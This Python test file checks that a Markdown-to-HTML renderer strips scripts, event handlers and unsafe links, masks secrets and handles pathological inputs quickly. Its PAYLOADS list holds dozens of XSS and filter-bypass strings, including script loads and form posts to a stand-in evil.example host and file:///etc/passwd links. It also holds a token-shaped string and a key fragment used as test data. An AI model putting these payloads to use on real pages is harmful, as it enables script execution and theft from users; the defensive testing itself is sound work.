"""The Markdown of files as HTML: what is there, and that none of it does anything."""

from __future__ import annotations

import re
import time
from typing import Any

import pytest

from taskstate.page import markdown
from tests.page import scene
from tests.page.pages import Element, read

TOKEN = "ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a"
# What a browser would run, load or follow, in the forms that are known to get past filters.
PAYLOADS = (
    *scene.TRIES,
    scene.EVERYTHING,
    "<script src=//evil.example/x.js></script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror=alert(1)>'>",
    "<form action=//evil.example><input name=x><button>go</button></form>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:http://x/1)",
    "[x](\\\\evil.example\\x)",
    "[x](/\\evil.example/x)",
    "[x](https:evil.example)",
    "[x](///evil.example)",
    "[x][1]\n\n[1]: javascript:alert(1) 'title'",
    "![x][1]\n\n[1]: //evil.example/p.png",
    "[![x](//evil.example/a)](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<http://a' onclick='alert(1)>",
    '[x](http://a/"onmouseover="alert(1))',
    '```"><script>alert(1)</script>\nx\n```',
    "```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "# <img src=x onerror=alert(1)> {#x onclick=alert(1)}",
    "|<script>|x|\n|-|-|\n|<img src=x onerror=alert(1)>|[x](javascript:1)|",
    "`<script>alert(1)</script>`",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<script>alert(1)</script>\x1b]8;;http://evil\x07",
    "\u202e<script>alert(1)</script>",
    "> - 1. <script>alert(1)</script>\n>\n>       <script>",
    "<details open ontoggle=alert(1)><summary>x",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
)
TAGS = {
    *("h1", "h2", "h3", "h4", "h5", "h6", "p", "br", "hr", "blockquote", "ul", "ol", "li", "pre", "code", "em"),
    *("strong", "s", "a", "table", "thead", "tbody", "tr", "th", "td"),
}


def made(text: str, **how: Any) -> Element:  # noqa: ANN401 - of `rendered`
    """Return the elements that a text becomes."""
    return read(markdown.rendered(text, "m-", **how))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_of_a_text_does_anything(payload: str) -> None:
    """Only tags in the list come out, with attributes that do nothing; links lead out openly, to a task, or nowhere."""
    for each in made(f"before\n\n{payload}\n\nafter").all():
        assert each.tag in TAGS
        assert set(each.attributes) <= {"id", "href", "start", "rel", "tabindex"}
        target = each.attributes.get("href", "#")
        assert re.match(r"#m-|https?://|mailto:|/tasks/[\w.-]+\Z", target) or target == "#", target
        assert "evil.example" not in target or target.startswith("http")


def test_html_in_a_text_is_text() -> None:
    """A reader sees what somebody wrote, not what a browser makes of it."""
    shown = made("<b>bold</b> and **strong**\n\n<div>\n# no heading\n</div>")
    assert shown.words == "<b>bold</b> and strong <div> no heading </div>"
    assert shown.one("strong").text == "strong"


def test_a_picture_is_its_words() -> None:
    """Nothing is fetched, and what the picture shows is said."""
    assert made("See ![the *plan*](https://example.org/plan.png)").words == "See [picture: the *plan*]"


@pytest.mark.parametrize(
    ("target", "leads"),
    [
        ("https://example.org/a?b=1&c=2", "https://example.org/a?b=1&c=2"),
        ("HTTP://example.org", "HTTP://example.org"),
        ("mailto:ann@example.org", "mailto:ann@example.org"),
        ("task-101-state.md", "/tasks/101"),
        ("../tasks/task-auth-2-state.md#goal", "/tasks/auth-2"),
        ("#Some Heading".replace(" ", "%20"), "#m-some-heading"),
        ("docs/plan.md", ""),
        ("//example.org", ""),
        ("/etc/passwd", ""),
        ("ftp://example.org", ""),
        ("data:text/html,x", ""),
    ],
)
def test_links_lead_out_to_a_task_or_nowhere(target: str, leads: str) -> None:
    """A link that may lead nowhere is its text alone."""
    shown = made(f"[words]({target})")
    assert [each.attributes["href"] for each in shown.all("a")] == ([leads] if leads else [])
    assert shown.words == "words"


def test_in_a_file_a_link_to_a_task_is_a_place() -> None:
    """A report has all tasks in itself."""
    assert made("[x](task-101-state.md)", is_file=True).one("a").attributes["href"] == "#task-101"


def test_headings_move_down_and_have_names_of_their_own() -> None:
    """The page's own headings stay above, and no name of a text is one of the page's."""
    shown = made("# A b\n\n## A b\n\n##### Deep\n\n# !?\n")
    assert [(each.tag, each.attributes["id"]) for each in shown.all() if each.tag[0] == "h"] == [
        ("h3", "m-a-b"),
        ("h4", "m-a-b-2"),
        ("h6", "m-deep"),
        ("h3", "m-part"),
    ]
    assert [each.tag for each in made("# A\n\n## B", depth=3).all() if each.tag[0] == "h"] == ["h4", "h5"]


def test_what_looks_like_a_secret_is_masked_first() -> None:
    """Nothing that Markdown does to a text brings a secret back."""
    for form in ("{}", "`{}`", "```\n{}\n```", "[x](https://example.org/{})", "# {}", "|{}|\n|-|", "**{}**"):
        assert TOKEN not in markdown.rendered(form.format(TOKEN), "m-")
    key = "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7bq8\n-----END RSA PRIVATE KEY-----"
    assert "MIIEpAIBAAKCAQEA7bq8" not in markdown.rendered(f"text\n\n{key}\n", "m-")


def test_control_characters_are_written_out() -> None:
    """Nothing invisible is left in a text that somebody judges."""
    assert made("a\x1b[31mb\u202ec").words == r"a\x1b[31mb\u202ec"


def test_code_scrolls_within_reach_of_the_keyboard() -> None:
    """A block of code that is too wide can be focused."""
    assert made("```python\nx = 1\n```").one("pre").attributes == {"tabindex": "0"}


def test_the_same_text_is_rendered_once() -> None:
    """A large text costs a tenth of a second, and a page is read again and again."""
    text = "# Once\n" + "- *an item* of `many`\n" * 500
    assert markdown.rendered(text, "m-") is markdown.rendered(text, "m-")


@pytest.mark.parametrize("part", ["*", "[", "`", "![](", "<", "&"])
def test_no_paragraph_takes_long(part: str) -> None:
    """Whoever writes such a line does not stop the page: it is shown as it is, and what follows as usual."""
    text = f"x {part * 10_000}"
    shown = made(f"{text}\n\n# After")
    assert shown.one("h3").text == "After"
    assert shown.words == f"{text} After"


COSTLY = {  # texts that took seconds, or of which parts were left out
    "quotes that go on": ">" * 20 + "a\n" + "b\n" * 30_000 + "the end",
    "a list": "- a\n" * 15_000 + "the end",
    "columns": "|a" * 5_000 + "|\n" + "|-" * 5_000 + "|\n" + "|b|\n" * 400 + "the end",
    "quotes in one another": "> " * 10_000 + "the end",
}


@pytest.mark.parametrize("text", COSTLY.values(), ids=COSTLY)
def test_what_would_take_long_to_draw_is_shown_as_it_is_written(text: str) -> None:
    """It says so, all of it is there, and it has no headings to lead to."""
    before = time.process_time()
    shown = made(text)
    assert time.process_time() - before < 1
    assert shown.one("p").words.startswith("It is too long, too wide or too deep")
    assert shown.one("pre").text == text


def test_of_a_text_that_is_too_long_the_beginning_is_shown() -> None:
    """What is left out is said by three dots."""
    shown = made("word " * 20_000).one("pre").text
    assert shown.endswith("\u2026")
    assert len(shown) == 75_001


@pytest.mark.parametrize("text", ["".join(f"{'  ' * deep}- x{deep}\n" for deep in range(39)), ">" * 39 + " x38"])
def test_what_is_deep_is_there(text: str) -> None:
    """Lists and quotes in one another are drawn to the last."""
    shown = made(text)
    assert "x38" in shown.words
    assert not [*shown.all("pre")]


def test_the_names_of_headings_in_a_file_tell_nothing() -> None:
    """They may tell what is taken out of its text; a link to one leads there all the same."""
    shown = made("# See /home/maria/x\n\n[there](#see-home-maria-x)", is_file=True)
    place = shown.one("h3").attributes["id"]
    assert "maria" not in place
    assert shown.one("a").attributes["href"] == f"#{place}"
